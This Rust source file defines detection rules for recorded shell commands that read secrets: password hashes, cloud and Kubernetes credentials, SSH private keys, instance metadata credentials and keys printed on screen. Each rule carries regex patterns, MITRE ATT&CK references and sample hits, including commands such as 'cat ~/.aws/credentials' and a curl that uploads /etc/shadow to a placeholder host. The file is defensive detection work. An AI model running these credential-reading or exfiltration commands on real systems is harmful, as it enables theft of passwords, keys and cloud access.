//! Secrets that are read: passwords, keys, tokens.
//!
//! Nothing here says that the reader had no right to.

use super::Severity::{High, Info, Medium};
use super::{Shipped, command, secret_line};

pub(super) const RULES: &[Shipped] = &[
    command(
        High,
        "shadow-read",
        "the password hashes of this machine are read",
        r"^(?:cat|tac|nl|less|more|most|head|tail|cp|mv|scp|rsync|e?grep|g?awk|sed|cut|sort|strings|xxd|od|base64|base32|vim?|view|nano|emacs|tar|zip|dd|curl|install|python3?|perl|unshadow) (?:[^|]* )?\S*/etc/g?shadow-?(?: |$)|< /etc/g?shadow-?(?: |$)",
    )
    .unless(r"^e?grep (?:-\S+ )*\S*/etc/g?shadow-? \S")
    .why(
        "Whoever has the hashes can look for the passwords at leisure, elsewhere.",
        &["MITRE ATT&CK T1003.008"],
    )
    .hits(&["sudo cat /etc/shadow", "cp /etc/shadow /tmp/s", "curl -F f=@/etc/shadow http://x.example", "wc -l < /etc/shadow"])
    .misses(&[
        "ls -l /etc/shadow",
        "grep shadow README",
        "grep /etc/shadow audit.rules",
        "stat /etc/shadow",
        "cat /etc/passwd",
        "chmod 640 /etc/shadow",
    ]),
    command(
        High,
        "cloud-credentials-read",
        "the credentials of an AWS, Google or Azure account are read",
        r"^(?:cat|tac|nl|less|more|most|head|tail|cp|mv|scp|rsync|e?grep|g?awk|sed|cut|strings|xxd|od|base64|base32|vim?|view|nano|emacs|tar|zip|dd|curl|jq|python3?) (?:[^|]* )?\S*(?:\.aws/(?:credentials|cli/cache/|sso/cache/)|\.config/gcloud/(?:credentials|access_tokens|application_default|legacy_credentials)|\.azure/(?:accessTokens|msal_token))",
    )
    .why(
        "They are good for as long as they live, from anywhere.",
        &["MITRE ATT&CK T1552.001"],
    )
    .hits(&["cat ~/.aws/credentials", "tar czf /tmp/a.tgz /home/ops/.aws/credentials", "jq . ~/.aws/sso/cache/x.json"])
    .misses(&[
        "ls -l ~/.aws/credentials",
        "cat ~/.aws/config",
        "chmod 600 ~/.aws/credentials",
        "aws configure list",
        "grep credentials README",
    ]),
    command(
        Medium,
        "stored-credentials-read",
        "credentials that a program keeps in a file are read",
        r"^(?:cat|tac|nl|less|more|most|head|tail|cp|mv|scp|rsync|e?grep|g?awk|sed|cut|strings|xxd|base64|tar|zip|curl|jq|yq) (?:[^|]* )?\S*(?:\.kube/config|/etc/kubernetes/admin\.conf|/k3s\.yaml|\.docker/config\.json|\.netrc|\.pgpass|\.my\.cnf|\.git-credentials|\.vault-token|\.npmrc|\.pypirc|serviceaccount/token|/proc/[^/ ]+/environ)(?: |$)",
    )
    .why(
        "Some of them are a way into clusters, databases and registries.",
        &["MITRE ATT&CK T1552.001"],
    )
    .hits(&[
        "cat ~/.kube/config",
        "sudo cat /etc/kubernetes/admin.conf",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        "tr x y | cat /proc/1/environ",
    ])
    .misses(&[
        "kubectl --kubeconfig ~/.kube/config get pods",
        "ls -la ~/.pgpass",
        "vim ~/.vimrc",
        "cat .gitconfig",
        "export KUBECONFIG=~/.kube/config",
    ]),
    command(
        High,
        "private-key-read",
        "a private key is read or copied",
        r"^(?:cat|tac|nl|less|more|most|head|tail|cp|mv|strings|xxd|od|base64|base32|vim?|view|nano|emacs|tar|zip|dd|curl|scp|rsync) (?:[^|]* )?\S*(?:\.ssh/id_(?:rsa|dsa|ecdsa|ed25519)\w*|/etc/ssh/ssh_host_\w+_key|/etc/ssl/private/\S+\.(?:key|pem)|/etc/letsencrypt/\S+/privkey\S*\.pem|/etc/kubernetes/pki/\S+\.key)(?: |$)",
    )
    .unless(r"^(?:scp|rsync) (?:[^|]* )?-(?:i|e) ")
    .why(
        "A key that was read is a key that somebody else may have.",
        &["MITRE ATT&CK T1552.004"],
    )
    .hits(&["cat ~/.ssh/id_rsa", "sudo cp /etc/ssh/ssh_host_ed25519_key /tmp", "base64 /etc/ssl/private/site.key"])
    .misses(&[
        "cat ~/.ssh/id_rsa.pub",
        "ssh -i ~/.ssh/id_rsa host",
        "scp -i ~/.ssh/id_rsa x host:",
        "ssh-keygen -lf ~/.ssh/id_ed25519",
        "ls -l ~/.ssh/id_rsa",
        "openssl rsa -noout -modulus -in /etc/ssl/private/site.key",
    ]),
    command(
        High,
        "metadata-credentials",
        "the credentials or user data of this instance or task are asked for",
        r"^(?:curl|wget|https?|lwp-request|GET|nc|ncat|python3?|fetch) [^|]*(?:169\.254\.169\.254|169\.254\.170\.2|\[?fd00:ec2::|metadata\.google\.internal)[^|]*(?:credentials|user-data|/token\?|service-accounts|oauth2)|^(?:curl|wget) [^|]*AWS_CONTAINER_CREDENTIALS|^ec2-?metadata (?:[^|]* )?(?:--user-data|-d)(?: |$)",
    )
    .why(
        "They are the rights of the machine, for whoever has them. Other metadata is the rule metadata-read.",
        &["MITRE ATT&CK T1552.005"],
    )
    .hits(&[
        "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/app",
        "wget -qO- 169.254.169.254/latest/user-data",
        "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
    ])
    .misses(&[
        "curl http://169.254.169.254/latest/meta-data/instance-id",
        "curl -X PUT http://169.254.169.254/latest/api/token",
        "grep -r 169.254.169.254/latest/meta-data/iam/security-credentials .",
        "ping -c 1 169.254.169.254",
    ]),
    command(
        Info,
        "metadata-read",
        "metadata of this instance are asked for",
        r"^(?:curl|wget|https?|lwp-request|GET|nc|ncat|python3?|fetch) [^|]*(?:169\.254\.169\.254|169\.254\.170\.2|fd00:ec2::254|metadata\.google\.internal)",
    )
    .why("Ordinary, and the first step to credentials.", &["MITRE ATT&CK T1552.005"])
    .hits(&["curl -s http://169.254.169.254/latest/meta-data/placement/region"])
    .misses(&["curl http://169.254.1.1/", "ping 169.254.169.254", "ip route show 169.254.169.254"]),
    command(
        Medium,
        "secrets-in-environment",
        "the environment is searched for secrets",
        r"^(?:env|printenv|set|export -p|declare -x|compgen -v)(?: [^|]*)?\| (?:[^|]*\| )*(?:e|f|z)?grep (?:[^|]* )?(?i:\S*(?:secret|passw|token|api_?key|aws|credential))",
    )
    .why("What a program was given is there in the clear.", &["MITRE ATT&CK T1552"])
    .hits(&["env | grep -i secret", "sudo printenv | sort | grep AWS"])
    .misses(&["env | grep PATH", "env", "cat x | grep secret", "env FOO=1 make | grep token"]),
    command(
        Medium,
        "secret-fetched",
        "a secret is fetched from where secrets are kept",
        r"^aws (?:[^|]* )?(?:secretsmanager (?:batch-)?get-secret-value|ssm get-parameters?(?:-by-path)? (?:[^|]* )?--with-decryption|sts (?:get-session-token|get-federation-token))(?: |$)|^kubectl (?:[^|]* )?get (?:[^|]* )?secrets?[ /](?:[^|]* )?(?:-o|--output)[= ]?(?:yaml|json|go-template|template)|^vault (?:kv get|read) ",
    )
    .why("Ordinary for who runs the program that it belongs to.", &["MITRE ATT&CK T1555"])
    .hits(&[
        "aws secretsmanager get-secret-value --secret-id db",
        "kubectl -n shop get secret db -o yaml",
        "vault kv get secret/app",
    ])
    .misses(&[
        "aws secretsmanager list-secrets",
        "kubectl get secrets",
        "aws ssm get-parameter --name /app/url",
        "vault status",
    ]),
    command(
        Medium,
        "secrets-searched",
        "files are searched for passwords or keys",
        r"^(?:e|f|z)?grep (?:[^|]* )?-\w*[rR]\w* (?:[^|]* )?\S*(?i:passw|secret|api_?key|BEGIN \S+ PRIVATE)\S* (?:[^|]* )?(?:/(?:etc|home|opt|srv|var|root|usr)?(?:/\S*)?|~/?)(?: |$)|^find (?:/\S*|~)(?: [^|]*)? -i?name \S*(?:id_rsa|id_ed25519|\.pem|\.p12|\.pfx|\.kdbx|credentials|shadow|\.pgpass)",
    )
    .why("Whoever knows where a secret lies does not search for it.", &["MITRE ATT&CK T1552.001"])
    .hits(&["grep -ri password /etc", "sudo grep -R api_key /home /opt", "find / -name id_rsa"])
    .misses(&["grep -r password src", "grep password /etc/app.conf", "grep -r error /var/log", "find . -name '*.pem.example'"]),
    secret_line(
        High,
        "private-key-shown",
        "a private key stood on the screen",
        r"-----BEGIN (?:[A-Z0-9]+ )*PRIVATE KEY-----",
    )
    .why("It is in the recording now, for all who may read that.", &["MITRE ATT&CK T1552.004"])
    .hits(&["-----BEGIN OPENSSH PRIVATE KEY-----", "key: -----BEGIN PRIVATE KEY-----"])
    .misses(&["-----BEGIN CERTIFICATE-----", "-----BEGIN PUBLIC KEY-----", "paste the PRIVATE KEY here"]),
    secret_line(
        High,
        "password-hash-shown",
        "a password hash stood on the screen",
        r"^[a-z_][a-z0-9_.-]*:(?:\$1\$|\$2[aby]\$|\$5\$|\$6\$|\$y\$|\$7\$)[^:]{8,}:[0-9]*:",
    )
    .why("It is in the recording now, for all who may read that.", &["MITRE ATT&CK T1003.008"])
    .hits(&["root:$6$abcdefgh$0123456789:19000:0:99999:7:::"])
    .misses(&["root:*:19000:0:99999:7:::", "root:x:0:0:root:/root:/bin/bash", "price: $6$ and more"]),
    secret_line(
        High,
        "cloud-keys-shown",
        "secret keys of an AWS account stood on the screen",
        r#""SecretAccessKey" ?: ?"[A-Za-z0-9/+]{30,}|(?:aws_secret_access_key|AWS_SECRET_ACCESS_KEY)"?\s*[=:]\s*"?'?[A-Za-z0-9/+]{40}"#,
    )
    .why("They are in the recording now, for all who may read that.", &["MITRE ATT&CK T1552"])
    .hits(&[
        "  \"SecretAccessKey\" : \"abcdefghijklmnopqrstuvwxyz0123456789ABCD\",",
        "aws_secret_access_key = abcdefghijklmnopqrstuvwxyz0123456789ABCD",
    ])
    .misses(&[
        "  \"SecretAccessKey\": \"****\"",
        "aws_secret_access_key = ${SECRET}",
        "export AWS_SECRET_ACCESS_KEY=changeme",
    ]),
];
